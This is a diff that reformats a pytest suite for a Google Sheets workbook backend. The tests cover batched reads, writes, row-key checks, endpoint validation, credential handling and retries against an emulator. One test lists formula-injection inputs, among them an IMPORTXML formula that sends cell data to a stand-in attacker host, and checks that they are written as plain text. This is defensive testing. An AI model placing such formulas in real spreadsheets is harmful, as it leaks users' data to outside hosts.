@@ -29,14 +29,21 @@ Opener = Callable[..., GoogleWorkbook]
 
 
 def kpi_grid(rows: int) -> Grid:
-    return [["KPI", "Owner", "Warning", "Critical"],
-            *([f"KPI {i}", "ops@example.com", 99, 98] for i in range(1, rows + 1))]
+    return [
+        ["KPI", "Owner", "Warning", "Critical"],
+        *([f"KPI {i}", "ops@example.com", 99, 98] for i in range(1, rows + 1)),
+    ]
 
 
 @pytest.fixture
 def book(sheets_emulator: SheetsEmulator) -> str:
-    return sheets_emulator.create({"KPIs": kpi_grid(3), "OKRs": [["Objective", "Key result"]],
-                                   "KPI log": [["Date", "KPI", "Value"]]})
+    return sheets_emulator.create(
+        {
+            "KPIs": kpi_grid(3),
+            "OKRs": [["Objective", "Key result"]],
+            "KPI log": [["Date", "KPI", "Value"]],
+        }
+    )
 
 
 @pytest.fixture
@@ -45,8 +52,9 @@ def open_book(sheets_emulator: SheetsEmulator) -> Iterator[Opener]:
     opened: list[GoogleWorkbook] = []
 
     def open_(key: str, credentials: Path | None = None, **options: Any) -> GoogleWorkbook:
-        cfg = WorkbookConfig(backend="google", spreadsheet=key, endpoint=sheets_emulator.url,
-                             credentials=credentials)
+        cfg = WorkbookConfig(
+            backend="google", spreadsheet=key, endpoint=sheets_emulator.url, credentials=credentials
+        )
         workbook = open_google(cfg, **{"backoff_factor": 0.0, "retry_budget": 5.0, **options})
         opened.append(workbook)
         return workbook
@@ -63,93 +71,132 @@ def sync_once(workbook: GoogleWorkbook, status: str = "OK", status_rows: int = 2
     assert kpis is not None
     rows = range(2, len(kpis) + 1)
     updates = [CellUpdate("KPIs", 1, 5, "Status"), CellUpdate("KPIs", 1, 6, "Checked")]
-    updates += [u for r in rows for u in (CellUpdate("KPIs", r, 5, status),
-                                          CellUpdate("KPIs", r, 6, "2026-11-02 08:00+00:00"))]
+    updates += [
+        u
+        for r in rows
+        for u in (
+            CellUpdate("KPIs", r, 5, status),
+            CellUpdate("KPIs", r, 6, "2026-11-02 08:00+00:00"),
+        )
+    ]
     keys = [RowKey("KPIs", r, ((1, kpis[r - 1][0]),)) for r in rows]
-    grid: Grid = [["Last run", "2026-11-02 08:00"], *([f"KPI {i}", status]
-                                                      for i in range(1, status_rows))]
+    grid: Grid = [
+        ["Last run", "2026-11-02 08:00"],
+        *([f"KPI {i}", status] for i in range(1, status_rows)),
+    ]
     workbook.write(updates, [OwnedTab("Status", grid, COLOURS)], keys)
 
 
 # -- reading ---------------------------------------------------------------------------------
 def test_the_read_asks_for_an_answer_without_google_s_indentation(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
     key = sheets_emulator.create({"KPIs": kpi_grid(200)})
     workbook = open_book(key)
     ours = workbook.read(["KPIs"])["KPIs"]
-    plain = workbook.client.http_client.values_batch_get(key, ["'KPIs'"], {
-        "valueRenderOption": "UNFORMATTED_VALUE"})  # gspread's own call, Google's default
+    plain = workbook.client.http_client.values_batch_get(
+        key, ["'KPIs'"], {"valueRenderOption": "UNFORMATTED_VALUE"}
+    )  # gspread's own call, Google's default
     assert ours == plain["valueRanges"][0]["values"]
     compact, indented = (r.response_size for r in sheets_emulator.requests)
     assert compact < indented / 2
 
 
 def test_several_tabs_are_read_in_one_request_whatever_their_names(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
-    key = sheets_emulator.create({"KPIs": [["KPI"]], "KPI log": [["Date"]], "Bob's KPIs": [["x"]],
-                                  "A1": [["a cell-like name"]]})
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
+    key = sheets_emulator.create(
+        {
+            "KPIs": [["KPI"]],
+            "KPI log": [["Date"]],
+            "Bob's KPIs": [["x"]],
+            "A1": [["a cell-like name"]],
+        }
+    )
     grids = open_book(key).read(["KPIs", "KPI log", "Bob's KPIs", "A1"])
-    assert grids == {"KPIs": [["KPI"]], "KPI log": [["Date"]], "Bob's KPIs": [["x"]],
-                     "A1": [["a cell-like name"]]}
+    assert grids == {
+        "KPIs": [["KPI"]],
+        "KPI log": [["Date"]],
+        "Bob's KPIs": [["x"]],
+        "A1": [["a cell-like name"]],
+    }
     assert sheets_emulator.apis() == ["values.batchGet"]
     params = sheets_emulator.requests[0].params
     assert params["ranges"] == ["'KPIs'", "'KPI log'", "'Bob''s KPIs'", "'A1'"]
-    assert (params["valueRenderOption"], params["dateTimeRenderOption"],
-            params["majorDimension"]) == (["UNFORMATTED_VALUE"], ["SERIAL_NUMBER"], ["ROWS"])
+    assert (
+        params["valueRenderOption"],
+        params["dateTimeRenderOption"],
+        params["majorDimension"],
+    ) == (["UNFORMATTED_VALUE"], ["SERIAL_NUMBER"], ["ROWS"])
 
 
 def test_a_missing_tab_reads_as_none_at_the_cost_of_one_more_request(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     grids = open_book(book).read(["KPIs", "Targets"])
     assert grids == {"KPIs": kpi_grid(3), "Targets": None}
     assert [(r.api, r.status) for r in sheets_emulator.requests] == [
-        ("values.batchGet", 400), ("values.batchGet", 200)]
+        ("values.batchGet", 400),
+        ("values.batchGet", 200),
+    ]
     assert sheets_emulator.requests[-1].params["ranges"] == ["'KPIs'"]
 
 
 def test_two_missing_tabs_cost_one_request_each(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     grids = open_book(book).read(["Targets", "KPIs", "Budget"])
     assert grids == {"Targets": None, "KPIs": kpi_grid(3), "Budget": None}
     assert [(r.api, r.status) for r in sheets_emulator.requests] == [
-        ("values.batchGet", 400), ("values.batchGet", 400), ("values.batchGet", 200)]
+        ("values.batchGet", 400),
+        ("values.batchGet", 400),
+        ("values.batchGet", 200),
+    ]
 
 
 def test_three_missing_tabs_are_resolved_through_the_tab_list(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     grids = open_book(book).read(["A", "B", "KPIs", "C"])
     assert grids == {"A": None, "B": None, "KPIs": kpi_grid(3), "C": None}
     assert [(r.api, r.status) for r in sheets_emulator.requests] == [
-        ("values.batchGet", 400)] * 3 + [("get", 200), ("values.batchGet", 200)]
+        ("values.batchGet", 400)
+    ] * 3 + [("get", 200), ("values.batchGet", 200)]
 
 
 def test_no_tab_found_reads_all_as_none(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     assert open_book(book).read(["A", "B"]) == {"A": None, "B": None}
     assert sheets_emulator.count() == 2
 
 
 def test_tab_names_match_whatever_their_case(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     assert open_book(book).read(["kpis"])["kpis"] == kpi_grid(3)
 
 
 def test_formula_results_and_errors_read_as_their_values(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
-    key = sheets_emulator.create({"KPIs": [[Formula("=1/0", "#DIV/0!"), Formula("=2*3", 6),
-                                            True, "12%"]]})
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
+    key = sheets_emulator.create(
+        {"KPIs": [[Formula("=1/0", "#DIV/0!"), Formula("=2*3", 6), True, "12%"]]}
+    )
     assert open_book(key).read(["KPIs"])["KPIs"] == [["#DIV/0!", 6, True, "12%"]]
 
 
 def test_dates_arrive_as_serial_numbers_and_empty_cells_as_none(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
     key = sheets_emulator.create({"KPIs": [["KPI", "", dt.date(2026, 11, 2)], [], ["Uptime"]]})
     assert open_book(key).read(["KPIs"])["KPIs"] == [["KPI", None, 46328], [], ["Uptime"]]
 
 
 # -- writing ---------------------------------------------------------------------------------
 def test_the_first_write_creates_the_status_tab_with_its_colour_rules_in_one_batch(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sync_once(open_book(book))
     batches = [r for r in sheets_emulator.requests if r.api == "batchUpdate"]
     assert len(batches) == 1
@@ -158,14 +205,23 @@ def test_the_first_write_creates_the_status_tab_with_its_colour_rules_in_one_bat
     rules = sheets_emulator.sheet(book, "Status").conditional_formats
     words = [r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules]
     assert words == list(COLOURS)
-    assert sheets_emulator.grid(book, "Status") == [["Last run", "2026-11-02 08:00"],
-                                                    ["KPI 1", "OK"]]
-    assert sheets_emulator.grid(book, "KPIs")[1] == ["KPI 1", "ops@example.com", 99, 98, "OK",
-                                                     "2026-11-02 08:00+00:00"]
+    assert sheets_emulator.grid(book, "Status") == [
+        ["Last run", "2026-11-02 08:00"],
+        ["KPI 1", "OK"],
+    ]
+    assert sheets_emulator.grid(book, "KPIs")[1] == [
+        "KPI 1",
+        "ops@example.com",
+        99,
+        98,
+        "OK",
+        "2026-11-02 08:00+00:00",
+    ]
 
 
 def test_a_new_status_tab_counts_only_its_own_columns_against_the_cell_limit(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     """Google's 10-million-cell limit counts every cell of every grid: the UI's 26 columns
     would waste 19 cells a row on a 7-column Status tab, near the limit a million of them."""
     sync_once(open_book(book), status_rows=3000)
@@ -174,7 +230,8 @@ def test_a_new_status_tab_counts_only_its_own_columns_against_the_cell_limit(
 
 
 def test_a_steady_run_makes_three_requests_and_adds_no_second_tab_or_rule(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sync_once(open_book(book))
     sheets_emulator.clear_log()
     workbook = open_book(book)
@@ -187,7 +244,8 @@ def test_a_steady_run_makes_three_requests_and_adds_no_second_tab_or_rule(
 
 
 def test_colour_rules_are_assumed_in_place_unless_the_tab_list_shows_them_gone(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sync_once(open_book(book))
     sheets_emulator.sheet(book, "Status").conditional_formats.clear()  # a person deleted them
     sync_once(open_book(book))  # a steady run does not look
@@ -204,7 +262,8 @@ def test_colour_rules_are_assumed_in_place_unless_the_tab_list_shows_them_gone(
 
 
 def test_a_sheet_of_5000_rows_costs_as_many_requests_as_one_of_5(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
     counts = []
     for rows in (5, 5000):
         key = sheets_emulator.create({"KPIs": kpi_grid(rows), "OKRs": [], "KPI log": []})
@@ -218,88 +277,119 @@ def test_a_sheet_of_5000_rows_costs_as_many_requests_as_one_of_5(
 
 
 def test_a_tab_the_workbook_lacks_costs_one_more_request_per_run(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
     key = sheets_emulator.create({"KPIs": kpi_grid(3), "OKRs": []})
     sync_once(open_book(key))
     sheets_emulator.clear_log()
     sync_once(open_book(key))
     assert [(r.api, r.status) for r in sheets_emulator.requests] == [
-        ("values.batchGet", 400), ("values.batchGet", 200), ("values.batchGet", 200),
-        ("values.batchUpdate", 200)]
+        ("values.batchGet", 400),
+        ("values.batchGet", 200),
+        ("values.batchGet", 200),
+        ("values.batchUpdate", 200),
+    ]
 
 
 def test_a_shorter_status_grid_blanks_what_the_longer_one_left(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sync_once(open_book(book), status_rows=4)
     sync_once(open_book(book), status_rows=2)
-    assert sheets_emulator.grid(book, "Status") == [["Last run", "2026-11-02 08:00"],
-                                                    ["KPI 1", "OK"]]
+    assert sheets_emulator.grid(book, "Status") == [
+        ["Last run", "2026-11-02 08:00"],
+        ["KPI 1", "OK"],
+    ]
 
 
 def test_text_that_looks_like_a_formula_is_written_as_plain_text(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     hostile = ['=IMPORTXML("https://evil.example/?"&A1, "//a")', "+1+1", "-2", "@SUM(A1)"]
     workbook = open_book(book)
     workbook.read(["KPIs"])
-    workbook.write([CellUpdate("KPIs", 2, 5 + i, text) for i, text in enumerate(hostile)],
-                   [OwnedTab("Status", [hostile], COLOURS)])
+    workbook.write(
+        [CellUpdate("KPIs", 2, 5 + i, text) for i, text in enumerate(hostile)],
+        [OwnedTab("Status", [hostile], COLOURS)],
+    )
     assert sheets_emulator.formulas(book) == []
     assert sheets_emulator.grid(book, "KPIs")[1][4:] == hostile
     assert sheets_emulator.grid(book, "Status") == [hostile]
 
 
 def test_datetimes_and_blanks_are_written_as_readable_text_and_empty_cells(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     when = dt.datetime(2026, 11, 2, 8, 0, tzinfo=dt.UTC)
     workbook = open_book(book)
     workbook.read(["KPIs"])
-    workbook.write([CellUpdate("KPIs", 2, 2, None), CellUpdate("KPIs", 2, 5, when),
-                    CellUpdate("KPIs", 2, 6, dt.date(2026, 11, 2))], [])
+    workbook.write(
+        [
+            CellUpdate("KPIs", 2, 2, None),
+            CellUpdate("KPIs", 2, 5, when),
+            CellUpdate("KPIs", 2, 6, dt.date(2026, 11, 2)),
+        ],
+        [],
+    )
     assert sheets_emulator.grid(book, "KPIs")[1] == [
-        "KPI 1", None, 99, 98, "2026-11-02 08:00+00:00", "2026-11-02"]
+        "KPI 1",
+        None,
+        99,
+        98,
+        "2026-11-02 08:00+00:00",
+        "2026-11-02",
+    ]
 
 
 def test_a_tab_too_narrow_for_a_new_column_is_widened_before_the_write(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
     key = sheets_emulator.create({"KPIs": kpi_grid(2)}, cols=4)
     workbook = open_book(key)
     workbook.read(["KPIs"])
     workbook.write([CellUpdate("KPIs", 1, 5, "Status")], [])
     # growing needs the sheet's id, which only the tab list tells
-    assert sheets_emulator.apis() == ["values.batchGet", "get", "batchUpdate",
-                                      "values.batchUpdate"]
+    assert sheets_emulator.apis() == ["values.batchGet", "get", "batchUpdate", "values.batchUpdate"]
     assert sheets_emulator.sheet(key, "KPIs").column_count == 5
     assert sheets_emulator.grid(key, "KPIs")[0][4] == "Status"
 
 
 def test_headers_of_new_columns_beyond_the_grid_are_not_read_before_the_write(
-        sheets_emulator: SheetsEmulator, open_book: Opener) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener
+) -> None:
     key = sheets_emulator.create({"KPIs": kpi_grid(2)}, cols=4)
     workbook = open_book(key)
     workbook.read(["KPIs"])
     header = RowKey("KPIs", 1, ((1, "KPI"), (5, None)))  # column 5 is created by this write
-    workbook.write([CellUpdate("KPIs", 1, 5, "Status"), CellUpdate("KPIs", 2, 5, "OK")], [],
-                   [header, RowKey("KPIs", 2, ((1, "KPI 1"),))])
+    workbook.write(
+        [CellUpdate("KPIs", 1, 5, "Status"), CellUpdate("KPIs", 2, 5, "OK")],
+        [],
+        [header, RowKey("KPIs", 2, ((1, "KPI 1"),))],
+    )
     assert sheets_emulator.requests[1].params["ranges"] == ["'KPIs'!A1:D1", "'KPIs'!A2:A"]
     assert sheets_emulator.grid(key, "KPIs")[1][4] == "OK"
 
 
-def test_writing_to_a_tab_that_does_not_exist_names_the_tab(
-        open_book: Opener, book: str) -> None:
+def test_writing_to_a_tab_that_does_not_exist_names_the_tab(open_book: Opener, book: str) -> None:
     with pytest.raises(WorkbookError, match="has no tab 'Targets'"):
         open_book(book).write([CellUpdate("Targets", 1, 1, "x")], [])
 
 
 def test_rows_inserted_between_read_and_write_stop_the_write_and_carry_fresh_grids(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     workbook = open_book(book)
     grids = workbook.read(["KPIs"])
     sheets_emulator.insert_rows(book, "KPIs", 2, [["Signups", "", 10, 5]])
     before = sheets_emulator.grid(book, "KPIs")
-    with pytest.raises(ConcurrentEditError, match="row 2: expected 'KPI 1', found 'Signups'"
-                       ) as caught:
-        workbook.write([CellUpdate("KPIs", 2, 5, "OK")], [OwnedTab("Status", [["x"]], COLOURS)],
-                       [RowKey("KPIs", 2, ((1, "KPI 1"),))])
+    with pytest.raises(
+        ConcurrentEditError, match="row 2: expected 'KPI 1', found 'Signups'"
+    ) as caught:
+        workbook.write(
+            [CellUpdate("KPIs", 2, 5, "OK")],
+            [OwnedTab("Status", [["x"]], COLOURS)],
+            [RowKey("KPIs", 2, ((1, "KPI 1"),))],
+        )
     assert isinstance(caught.value, RowsMovedError)
     assert caught.value.grids["KPIs"] == before != grids["KPIs"]
     assert sheets_emulator.grid(book, "KPIs") == before
@@ -308,11 +398,14 @@ def test_rows_inserted_between_read_and_write_stop_the_write_and_carry_fresh_gri
 
 
 def test_key_cells_are_compared_as_a_person_reads_them(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     workbook = open_book(book)
     workbook.read(["KPIs"])
-    keys = [RowKey("KPIs", 2, ((1, " KPI 1 "),)),  # spaces around text do not count
-            RowKey("KPIs", 4, ((2, "ops@example.com"), (3, 99.0)))]  # 99 == 99.0
+    keys = [
+        RowKey("KPIs", 2, ((1, " KPI 1 "),)),  # spaces around text do not count
+        RowKey("KPIs", 4, ((2, "ops@example.com"), (3, 99.0))),
+    ]  # 99 == 99.0
     workbook.write([CellUpdate("KPIs", 2, 5, "OK")], [], keys)
     assert sheets_emulator.grid(book, "KPIs")[1][4] == "OK"
 
@@ -323,17 +416,24 @@ def test_a_url_gives_the_same_key_as_the_key_itself() -> None:
     assert spreadsheet_key(url) == spreadsheet_key(" 1AbC-d_9xyz ") == "1AbC-d_9xyz"
 
 
-@pytest.mark.parametrize("endpoint", ["http://sheets.example.com", "ftp://127.0.0.1",
-                                      "https://sheets.googleapis.com/v4", "http://10.0.0.1:8080"])
+@pytest.mark.parametrize(
+    "endpoint",
+    [
+        "http://sheets.example.com",
+        "ftp://127.0.0.1",
+        "https://sheets.googleapis.com/v4",
+        "http://10.0.0.1:8080",
+    ],
+)
 def test_an_endpoint_neither_https_nor_loopback_is_refused_before_any_request(
-        endpoint: str) -> None:
+    endpoint: str,
+) -> None:
     cfg = WorkbookConfig(backend="google", spreadsheet="abc", endpoint=endpoint)
     with pytest.raises(ConfigError, match="endpoint"):
         open_google(cfg)
 
 
-@pytest.mark.parametrize("endpoint", ["http://localhost:9", "http://127.0.0.2:9",
-                                      "http://[::1]:9"])
+@pytest.mark.parametrize("endpoint", ["http://localhost:9", "http://127.0.0.2:9", "http://[::1]:9"])
 def test_a_loopback_endpoint_needs_no_credentials(endpoint: str) -> None:
     cfg = WorkbookConfig(backend="google", spreadsheet="abc", endpoint=endpoint)
     with open_google(cfg) as workbook:
@@ -348,19 +448,29 @@ def test_a_wrong_key_is_named_in_the_error(open_book: Opener) -> None:
 @pytest.fixture(scope="module")
 def private_key() -> str:
     key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
-    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
-                             serialization.NoEncryption()).decode()
+    return key.private_bytes(
+        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+    ).decode()
 
 
 def test_an_unshared_sheet_names_the_service_account_to_share_it_with(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str, tmp_path: Path,
-        private_key: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str, tmp_path: Path, private_key: str
+) -> None:
     email = "metrics-sync@team-project.iam.gserviceaccount.com"
     creds = tmp_path / "service-account.json"
-    creds.write_text(json.dumps({
-        "type": "service_account", "project_id": "team-project", "private_key_id": "1",
-        "private_key": private_key, "client_email": email, "client_id": "1",
-        "token_uri": sheets_emulator.token_uri}))
+    creds.write_text(
+        json.dumps(
+            {
+                "type": "service_account",
+                "project_id": "team-project",
+                "private_key_id": "1",
+                "private_key": private_key,
+                "client_email": email,
+                "client_id": "1",
+                "token_uri": sheets_emulator.token_uri,
+            }
+        )
+    )
     workbook = open_book(book, credentials=creds)
     assert workbook.read(["KPIs"])["KPIs"] == kpi_grid(3)
     assert sheets_emulator.requests[0].authorization == "Bearer emulator-token"
@@ -370,18 +480,30 @@ def test_an_unshared_sheet_names_the_service_account_to_share_it_with(
 
 
 def test_an_authorized_user_file_is_accepted(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str, tmp_path: Path) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str, tmp_path: Path
+) -> None:
     creds = tmp_path / "user.json"
-    creds.write_text(json.dumps({  # a stored, unexpired token: google-auth pins token_uri
-        "type": "authorized_user", "client_id": "c", "client_secret": "s", "refresh_token": "r",
-        "token": "user-token", "expiry": "2999-01-01T00:00:00Z"}))
-    assert open_book(book, credentials=creds).read(["OKRs"]) == {"OKRs": [["Objective",
-                                                                          "Key result"]]}
+    creds.write_text(
+        json.dumps(
+            {  # a stored, unexpired token: google-auth pins token_uri
+                "type": "authorized_user",
+                "client_id": "c",
+                "client_secret": "s",
+                "refresh_token": "r",
+                "token": "user-token",
+                "expiry": "2999-01-01T00:00:00Z",
+            }
+        )
+    )
+    assert open_book(book, credentials=creds).read(["OKRs"]) == {
+        "OKRs": [["Objective", "Key result"]]
+    }
     assert sheets_emulator.requests[0].authorization == "Bearer user-token"
 
 
 def test_the_title_costs_one_small_request_and_only_when_asked_for(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     workbook = open_book(book)
     workbook.read(["KPIs"])
     assert sheets_emulator.apis() == ["values.batchGet"]
@@ -391,7 +513,8 @@ def test_the_title_costs_one_small_request_and_only_when_asked_for(
 
 
 def test_the_title_comes_free_when_the_tab_list_was_fetched_anyway(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     workbook = open_book(book)
     workbook.read(["A", "B", "C", "KPIs"])
     requests = sheets_emulator.count()
@@ -400,11 +523,19 @@ def test_the_title_comes_free_when_the_tab_list_was_fetched_anyway(
 
 
 # -- retries ---------------------------------------------------------------------------------
-@pytest.mark.parametrize("fault", [Fault.quota(retry_after="0"), Fault.error(503, html=True),
-                                   Fault.error(500), Fault.connection_reset()],
-                         ids=["429 with Retry-After", "503 HTML page", "500", "connection reset"])
+@pytest.mark.parametrize(
+    "fault",
+    [
+        Fault.quota(retry_after="0"),
+        Fault.error(503, html=True),
+        Fault.error(500),
+        Fault.connection_reset(),
+    ],
+    ids=["429 with Retry-After", "503 HTML page", "500", "connection reset"],
+)
 def test_a_passing_failure_is_retried_and_the_read_succeeds(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str, fault: Fault) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str, fault: Fault
+) -> None:
     sheets_emulator.fail(fault, times=2)
     workbook = open_book(book)
     assert workbook.read(["KPIs"])["KPIs"] == kpi_grid(3)
@@ -412,7 +543,8 @@ def test_a_passing_failure_is_retried_and_the_read_succeeds(
 
 
 def test_a_read_timeout_is_retried(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sheets_emulator.fail(Fault.slow(2.0))
     workbook = open_book(book, timeout=(2.0, 0.2))
     assert workbook.read(["KPIs"])["KPIs"] == kpi_grid(3)
@@ -420,38 +552,51 @@ def test_a_read_timeout_is_retried(
 
 
 def test_retrying_stops_at_once_when_retry_after_exceeds_the_budget(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sheets_emulator.fail(Fault.quota(retry_after="60"), times=10)
     started = time.monotonic()
-    with pytest.raises(WorkbookError, match=r"HTTP 429 while reading 'KPIs', after 1 attempt"
-                       r".*retry budget spent.*Quota exceeded"):
+    with pytest.raises(
+        WorkbookError,
+        match=r"HTTP 429 while reading 'KPIs', after 1 attempt"
+        r".*retry budget spent.*Quota exceeded",
+    ):
         open_book(book, retry_budget=30.0).read(["KPIs"])
     assert time.monotonic() - started < 2
     assert sheets_emulator.count() == 1
 
 
 def test_retrying_stops_after_the_attempt_limit_and_names_the_status(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     workbook = open_book(book, max_attempts=3)
     workbook.read(["KPIs"])
     sheets_emulator.clear_log()
     sheets_emulator.fail(Fault.error(503, html=True), times=10)
-    with pytest.raises(WorkbookError, match=r"HTTP 503 while writing 1 range\(s\), after 3 "
-                                            r"attempt\(s\).*temporary error"):
+    with pytest.raises(
+        WorkbookError,
+        match=r"HTTP 503 while writing 1 range\(s\), after 3 "
+        r"attempt\(s\).*temporary error",
+    ):
         workbook.write([CellUpdate("KPIs", 2, 5, "OK")], [])
     assert sheets_emulator.count() == 3
 
 
 def test_a_connection_that_keeps_failing_is_reported_as_unreachable(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sheets_emulator.fail(Fault.connection_reset(), times=10)
-    with pytest.raises(WorkbookError, match=r"could not reach http://127\.0\.0\.1:\d+ while "
-                                            r"reading 'KPIs', after 2 attempt"):
+    with pytest.raises(
+        WorkbookError,
+        match=r"could not reach http://127\.0\.0\.1:\d+ while "
+        r"reading 'KPIs', after 2 attempt",
+    ):
         open_book(book, max_attempts=2).read(["KPIs"])
 
 
 def test_a_tab_creation_whose_answer_was_lost_is_replayed_safely(
-        sheets_emulator: SheetsEmulator, open_book: Opener, book: str) -> None:
+    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
+) -> None:
     sheets_emulator.fail(Fault.lost_response(), path=r"/spreadsheets/[^/]+:batchUpdate$")
     sync_once(open_book(book))
     assert sheets_emulator.tabs(book).count("Status") == 1
